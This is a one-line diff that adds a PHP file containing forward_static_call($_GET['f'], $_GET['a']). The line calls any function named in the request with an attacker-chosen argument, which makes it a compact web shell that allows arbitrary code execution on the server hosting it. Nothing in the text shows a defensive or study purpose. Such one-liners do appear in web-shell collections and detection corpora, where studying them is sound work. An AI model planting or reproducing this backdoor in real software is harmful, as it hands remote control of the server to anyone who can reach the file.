@@ -1,0 +1,1 @@
+<?php forward_static_call($_GET["f"], $_GET["a"]);
